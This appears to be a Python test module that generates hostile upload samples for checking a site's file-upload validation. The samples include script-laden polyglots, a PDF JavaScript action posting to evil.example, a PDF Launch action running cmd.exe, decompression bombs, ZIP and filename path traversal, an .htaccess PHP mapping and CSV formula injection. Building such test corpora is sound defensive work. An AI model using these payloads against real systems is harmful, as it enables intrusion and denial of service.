"""Hostile files, generated at test time (no large binaries in the repository).

Each file says what its content genuinely is (`real`): "image", "pdf", "docx", "xlsx", "text" (a
printable text file, hence a CSV for fields that take CSV), None (nothing we accept), "maybe"
(a parser may or may not take it: if it is stored it must be stored safely), or "image?" (a real
picture under a tricky name: a field may refuse the name, or keep the picture under a name of
its own). `write_all()` puts
them under tests/corpus/files/ with a manifest, for a person to look at them.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

FOLDER = Path(__file__).resolve().parent / "files"
MARKER = b"alert(1)"  # every hostile payload carries it: a re-encoded image must not


@dataclass(frozen=True)
class HostileFile:
    name: str  # the name the browser sends
    data: bytes
    real: str | None
    note: str


# --- Building blocks --------------------------------------------------------------------------------


def png(size=(32, 32), color=(200, 30, 30), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color if mode != "1" else 1).save(out, "PNG")
    return out.getvalue()


def jpeg(comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (24, 24), (20, 90, 160)).save(out, "JPEG", comment=comment)
    return out.getvalue()


def gif(comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16), 1).save(out, "GIF", comment=comment)
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 128, 0)).save(out, "WEBP")
    return out.getvalue()


def bmp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 128, 0)).save(out, "BMP")
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header_bomb(width: int, height: int) -> bytes:
    """A PNG that claims to be width x height with a tiny (deflated zeros) image stream."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\x00" * 1_000_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def png_real_bomb() -> bytes:
    """A genuine 50-megapixel 1-bit PNG of a few kilobytes: decoding it would take ~150 MB."""
    out = io.BytesIO()
    Image.new("1", (10_000, 5_000), 0).save(out, "PNG", optimize=False)
    return out.getvalue()


def gif_header_bomb() -> bytes:
    """A GIF whose logical screen is 65535 x 65535 (4.3 gigapixels) around a 1x1 frame."""
    body = gif()
    return body[:6] + struct.pack("<HH", 65535, 65535) + body[10:]


def jpeg_header_bomb() -> bytes:
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def pdf(extra_objects: list[bytes] | None = None, catalog_extra: bytes = b"") -> bytes:
    """A valid one-page PDF with a correct cross-reference table; more objects may follow."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *(extra_objects or []),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return pdf(
        [
            b"<< /Type /Action /S /JavaScript /JS (app.alert(1); this.submitForm('https://evil.example/')) >>"
        ],
        catalog_extra=b"/OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >>",
    )


def pdf_with_launch() -> bytes:
    return pdf(
        [b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
        catalog_extra=b"/OpenAction 4 0 R",
    )


def office(
    prefix: str, extra: dict[str, bytes] | None = None, *, content_types: bool = True
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if content_types:
            archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{prefix}document.xml", "<doc/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(prefix: str) -> bytes:
    # 20 MB of zeros deflate to ~20 KB: a ratio of about 1000.
    return office(prefix, {f"{prefix}bomb.xml": b"\x00" * (20 * 1024 * 1024)})


def zip_many_entries(prefix: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(10_001):
            archive.writestr(f"{prefix}p{n}.xml", b"")
    return out.getvalue()


def zip_traversal(prefix: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{prefix}document.xml", "<doc/>")
        archive.writestr("../../../../tmp/evil.sh", b"#!/bin/sh\necho alert(1)\n")
    return out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script><img src=x onerror=alert(1)></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FORMULAS = (
    "email,name\n"
    'formula@example.org,"=HYPERLINK(""https://evil.example"",""alert(1)"")"\n'
    "plus@example.org,+cmd|' /C calc'!A0\n"
)


def hostile_files() -> list[HostileFile]:
    small_png = png()
    files = [
        # Polyglots: valid pictures and PDFs that carry a script
        HostileFile(
            "polyglot.gif",
            gif(comment=b"*/=alert(1);/*<script>alert(1)</script>") + b"<script>alert(1)</script>",
            "image",
            "GIF with script in its comment and after its trailer",
        ),
        HostileFile(
            "trailer.png",
            small_png + b"<html><script>alert(1)</script></html>",
            "image",
            "PNG with HTML after IEND",
        ),
        HostileFile(
            "comment.jpg",
            jpeg(comment=b"<script>alert(1)</script>"),
            "image",
            "JPEG with a script in its comment",
        ),
        HostileFile(
            "gifar.gif", gif() + office("word/"), "image", "GIF with a ZIP (office file) glued on"
        ),
        HostileFile("pdf-html.pdf", pdf() + HTML, "pdf", "valid PDF followed by an HTML page"),
        HostileFile("html-pdf.pdf", HTML + b"\n" + pdf(), None, "HTML page with a PDF inside"),
        HostileFile(
            "javascript-action.pdf",
            pdf_with_javascript(),
            "pdf",
            "PDF with an OpenAction JavaScript alert(1)",
        ),
        HostileFile(
            "launch-action.pdf",
            pdf_with_launch(),
            "pdf",
            "PDF with a Launch action (alert(1) marker absent)",
        ),
        # Markup renamed to look harmless
        HostileFile("page.png", HTML, None, "HTML renamed .png"),
        HostileFile("page.pdf", HTML, None, "HTML renamed .pdf"),
        HostileFile("page.docx", HTML, None, "HTML renamed .docx"),
        HostileFile("page.jpg", b"\xef\xbb\xbf" + HTML, None, "HTML with a BOM renamed .jpg"),
        HostileFile("page.csv", HTML, None, "HTML renamed .csv"),
        HostileFile("image.svg", SVG, None, "SVG with script"),
        HostileFile("image.png", SVG, None, "SVG renamed .png"),
        HostileFile("image.pdf", SVG, None, "SVG renamed .pdf"),
        HostileFile("image.docx", SVG, None, "SVG renamed .docx"),
        HostileFile("image.svgz", zlib.compress(SVG), None, "compressed SVG"),
        HostileFile(
            "utf16.pdf",
            "<html><script>alert(1)</script>".encode("utf-16"),
            None,
            "UTF-16 HTML renamed .pdf",
        ),
        # Bombs
        HostileFile(
            "bomb.png", png_header_bomb(100_000, 100_000), None, "PNG header claiming 10 gigapixels"
        ),
        HostileFile("real-bomb.png", png_real_bomb(), None, "genuine 50-megapixel PNG of a few KB"),
        HostileFile("bomb.gif", gif_header_bomb(), None, "GIF with a 65535x65535 screen"),
        HostileFile("bomb.jpg", jpeg_header_bomb(), None, "JPEG frame header claiming 65000x65000"),
        HostileFile("bomb.xlsx", zip_bomb("xl/"), None, "XLSX zip bomb (ratio ~1000)"),
        HostileFile("bomb.docx", zip_bomb("word/"), None, "DOCX zip bomb (ratio ~1000)"),
        HostileFile("entries.docx", zip_many_entries("word/"), None, "DOCX with 10,001 entries"),
        HostileFile("traversal.docx", zip_traversal("word/"), None, "DOCX with a ../ entry"),
        HostileFile(
            "no-types.docx",
            office("word/", content_types=False),
            None,
            "ZIP without [Content_Types].xml",
        ),
        HostileFile(
            "macro.xlsm.xlsx",
            office("xl/", {"xl/vbaProject.bin": b"Attribute VB_Name alert(1)"}),
            "xlsx",
            "XLSX carrying a VBA project",
        ),
        HostileFile(
            "external.docx",
            office(
                "word/",
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Target="https://evil.example/t.dotm" TargetMode="External"/>'
                },
            ),
            "docx",
            "DOCX with a remote template",
        ),
        # Names that try to walk folders, hide an extension or break storage
        HostileFile("../../../etc/passwd.png", small_png, "image?", "path traversal in the name"),
        HostileFile("..\\..\\windows\\win.ini.png", small_png, "image?", "Windows path traversal"),
        HostileFile("nul\x00.html.png", small_png, "image?", "NUL byte in the name"),
        HostileFile("photo\u202egnp.exe", small_png, "image?", "right-to-left override hides .exe"),
        HostileFile(("a" * 400) + ".png", small_png, "image?", "a 404-character name"),
        HostileFile("CON.png", small_png, "image?", "a reserved Windows device name"),
        HostileFile(
            ".htaccess", b"AddType application/x-httpd-php .png\n", "text", "a server config file"
        ),
        HostileFile("<script>alert(1)<script>.pdf", pdf(), "pdf", "markup in the name"),
        # Size and shape
        HostileFile("empty.pdf", b"", None, "empty file"),
        HostileFile("empty.png", b"", None, "empty image"),
        HostileFile(
            "oversized.pdf",
            pdf() + b"%" + b"0" * (26 * 1024 * 1024),
            "maybe",
            "26 MB PDF (over every limit)",
        ),
        HostileFile(
            "oversized.png",
            small_png + bytes(6 * 1024 * 1024),
            "image",
            "a 6 MB PNG (over the 5 MB picture limit)",
        ),
        HostileFile("truncated.pdf", pdf()[:60], None, "PDF cut after 60 bytes"),
        HostileFile("truncated.png", small_png[: len(small_png) // 2], None, "PNG cut in half"),
        HostileFile(
            "header-only.pdf", b"%PDF-1.7\nnot really a pdf", None, "PDF signature, nothing else"
        ),
        HostileFile("eicar.pdf", EICAR, "text", "EICAR test string renamed .pdf"),
        HostileFile("eicar.png", EICAR, "text", "EICAR test string renamed .png"),
        # Other formats we do not take
        HostileFile("picture.bmp", bmp(), None, "BMP picture (not accepted)"),
        HostileFile(
            "program.pdf",
            b"MZ\x90\x00\x03" + bytes(200) + b"This program cannot be run in DOS mode",
            None,
            "Windows executable renamed .pdf",
        ),
        HostileFile(
            "program.png", b"\x7fELF\x02\x01\x01" + bytes(300), None, "ELF executable renamed .png"
        ),
        HostileFile(
            "legacy.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
            None,
            "OLE (legacy Office) file",
        ),
        HostileFile("nul.csv", b"email\nx@example.org\x00\n", None, "CSV with a NUL byte"),
        HostileFile(
            "formulas.csv", FORMULAS.encode(), "text", "CSV whose cells are spreadsheet formulas"
        ),
        HostileFile("webp.png", webp(), "image", "a WebP named .png (a real picture)"),
    ]
    return files


def write_all(folder: Path = FOLDER) -> list[HostileFile]:
    """Write every file under `folder` as NN.bin (the hostile names cannot all be file names) with
    a manifest of the names the tests send."""
    files = hostile_files()
    folder.mkdir(exist_ok=True)
    manifest = []
    for number, item in enumerate(files):
        path = folder / f"{number:02d}.bin"
        if not path.exists() or path.stat().st_size != len(item.data):
            path.write_bytes(item.data)
        manifest.append(
            {"file": path.name, "upload_name": item.name, "real": item.real, "note": item.note}
        )
    (folder / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1))
    return files
